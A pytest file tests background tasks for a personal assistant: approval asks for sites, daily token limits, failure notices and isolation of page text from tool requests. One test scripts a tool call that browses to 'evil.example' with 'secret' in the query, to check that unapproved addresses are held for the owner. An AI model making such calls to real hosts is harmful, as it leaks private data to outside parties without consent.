"""Tasks: a sentence of the owner, carried out in the background like a turn."""

from datetime import UTC, datetime, timedelta

import pytest
from constance import config
from django.test import Client

from agents.models import Day, Run, Schedule
from agents.schedules import start as schedules_start
from devices.models import Ask, Device, Grant
from devices.owner.account import the_owner
from tests.agents.answers.tasks import NOON, TASK, answer_ask, run_now, schedule_task, stored_messages
from tests.agents.background import Clock, carry_out_all
from tests.agents.outbox.send_message import immediate_answer
from tests.stand_ins.articles import WATER
from tests.stand_ins.model_script import zone
from tests.stand_ins.model_server import ModelServer, Reply, ToolUse, text
from thoughts.models import Page, Preference

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("redis")]


def test_its_answer_becomes_a_message_with_the_owners_sentence_above_it(clock: Clock, model: ModelServer) -> None:
    run = run_now(schedule_task("Write a line about rain"))
    [message] = stored_messages()
    assert message.text.startswith("> Write a line about rain\n\nYou said: Write a line about rain")
    assert (message.kind, message.direction, message.origin) == ("chat", "out", ["owner", "penny"])
    assert (run.state, run.outcome, run.answer) == ("done", "Answered in the conversation.", message)
    assert run.spent_tokens > 0


def test_it_sees_nothing_of_the_conversation_and_of_the_preferences(
    clock: Clock, canned_browser: Device, model: ModelServer
) -> None:
    Preference.objects.create(text="canary-preference")
    run_now(schedule_task("Write a line about rain"))
    run_now(schedule_task("Write a line about snow"))
    assert [request for request in model.requests if "canary" in request.everything] == []
    assert "rain" not in model.requests[-1].everything


def test_it_waits_for_a_grant_without_a_slot_and_goes_on_after_the_answer(
    clock: Clock, canned_browser: Device, model: ModelServer
) -> None:
    schedule = schedule_task()
    run = run_now(schedule)
    assert (run.state, stored_messages()) == ("parked", [])
    assert run.outcome == "Waits for your answer: coffee.example"
    assert Ask.objects.get().text == f"To read a page there, for your task “{TASK[:120]}”."
    clock.move(hours=3)
    schedules_start.start_due(clock.now)
    assert Run.objects.filter(schedule=schedule).count() == 1  # it stands for the next occurrences too
    answer_ask("allow")
    [run] = carry_out_all()
    [message] = stored_messages()
    assert (run.state, message.origin) == ("done", ["coffee.example", "owner", "penny"])
    assert WATER.paragraphs[0] in message.text


def test_pages_and_tools_never_meet_in_one_request(clock: Clock, canned_browser: Device, model: ModelServer) -> None:
    run_now(schedule_task())
    answer_ask("allow")
    carry_out_all()
    assert {zone(request) for request in model.requests} == {"planner", "writer"}
    assert [request for request in model.requests if request.tools and WATER.paragraphs[0] in request.everything] == []


def test_what_is_refused_is_said_and_not_asked_again(clock: Clock, canned_browser: Device, model: ModelServer) -> None:
    run_now(schedule_task())
    answer_ask("block")
    [run] = carry_out_all()
    assert run.state == "done"
    assert "That could not be read." in stored_messages()[0].text
    assert Ask.objects.count() == 1


def test_an_address_that_the_owner_did_not_write_is_asked_about_for_a_day(
    clock: Clock, canned_browser: Device, model: ModelServer
) -> None:
    call = Reply(tools=(ToolUse("browse_url", {"url": "https://evil.example/?q=secret"}),))
    model.on(lambda request: zone(request) == "planner" and not request.tool_results, call)
    run = run_now(schedule_task("Find something new"))
    ask = Ask.objects.get()
    assert (run.state, ask.kind, ask.is_background) == ("parked", "approval", True)
    assert ask.expires_at == NOON + timedelta(hours=24)
    answer_ask("deny")
    assert carry_out_all()[0].state == "done"
    assert not Page.objects.exists()


def test_the_same_answer_is_not_said_twice(clock: Clock, model: ModelServer) -> None:
    schedule = schedule_task("Write a line about rain")
    run_now(schedule)
    assert run_now(schedule).outcome == "The same as last time, so nothing was said."
    model.on(lambda _: True, text("Something new."))
    run_now(schedule)
    assert len(stored_messages()) == 2


def test_a_failure_is_said_once_until_it_works_again(clock: Clock, model: ModelServer) -> None:
    schedule, outcomes = schedule_task("Write a line"), []
    for works in (False, False, True, False):
        model.reset()
        if not works:
            model.on(lambda _: True, Reply(status=401))
        outcomes.append(run_now(schedule).state)
    assert outcomes == ["failed", "failed", "done", "failed"]
    assert [message.kind for message in stored_messages()] == ["failure", "chat", "failure"]


def test_when_the_day_is_used_up_it_waits_for_the_next_one(clock: Clock, model: ModelServer) -> None:
    config.QUIET_FROM, config.QUIET_TO = "22:00", "07:00"
    Day.objects.create(day=NOON.date(), tokens=10**6)
    run = run_now(schedule_task("Write a line"))
    assert (run.state, run.outcome[:29], model.requests) == ("queued", "Paused until tomorrow, 00:00:", [])
    assert run.not_before == datetime(2026, 6, 2, 5, tzinfo=UTC)  # seven o'clock on the owner's clock
    clock.move(hours=17)
    [run] = carry_out_all()
    assert (run.state, run.error_code) == ("done", "")
    assert stored_messages()[-1].text.startswith("> Write a line")


def test_what_a_whole_day_is_not_enough_for_ends_and_says_so(
    clock: Clock, canned_browser: Device, model: ModelServer
) -> None:
    config.DAY_TOKENS_MAX = 1
    model.on(lambda request: zone(request) == "planner" and bool(request.tool_results), text("Go on."))
    schedule = schedule_task(TASK)
    run_now(schedule)
    answer_ask("allow")
    assert carry_out_all()[0].state == "queued"
    clock.move(days=1)
    Schedule.objects.update(enabled=False)
    [run] = carry_out_all()
    assert (run.state, run.error_code) == ("failed", "day_tokens")
    assert [message.kind for message in stored_messages()] == ["failure"]


def test_without_a_model_it_says_what_a_task_can_be_then(
    clock: Clock, model: ModelServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("django.conf.settings.MODEL", None)
    run_now(schedule_task("Write a line"))
    assert "Without a model I can only read the addresses that a task names" in stored_messages()[0].text


def test_its_page_shows_the_planner_and_the_message(clock: Clock, client: Client, model: ModelServer) -> None:
    client.force_login(the_owner())
    run = run_now(schedule_task("Write a line <b>about rain</b>"))
    html = client.get(f"/runs/{run.pk}/").content.decode()
    assert "How Penny carried out" in html
    assert "Write a line &lt;b&gt;about rain&lt;/b&gt;" in html
    assert "<b>Planner</b> your words and tools" in html
    assert f"/chat/#m{stored_messages()[0].seq}" in html


def test_its_request_holds_the_tools_for_the_web_and_the_owners_words(
    clock: Clock, canned_browser: Device, model: ModelServer
) -> None:
    run_now(schedule_task())
    [request] = model.requests
    assert (sorted(request.tools), request.last_user) == (["browse_url", "open_tools", "search_web"], TASK)


def test_a_task_that_needs_several_sites_stops_at_one_question_and_resumes_after_a_word(
    clock: Clock, canned_browser: Device, model: ModelServer
) -> None:
    urls = [f"https://{name}.example/water" for name in ("beans", "coffee", "water")]
    calls = Reply(tools=tuple(ToolUse("browse_url", {"url": url}) for url in urls))
    model.on(lambda request: zone(request) == "planner" and not request.tool_results, calls)
    run = run_now(schedule_task(f"Compare {' '.join(urls)}"))
    [ask] = Ask.objects.all()
    assert (run.state, ask.kind) == ("parked", "approval")
    assert "beans.example, coffee.example and water.example for your task" in ask.text
    clock.move(hours=5)
    assert carry_out_all() == []  # it waits, and nothing is refused
    assert "Allowed." in immediate_answer("/allow 1").text
    [run] = carry_out_all()
    assert (run.state, Page.objects.count()) == ("done", 3)
    assert not Grant.objects.exists()  # they were for this run
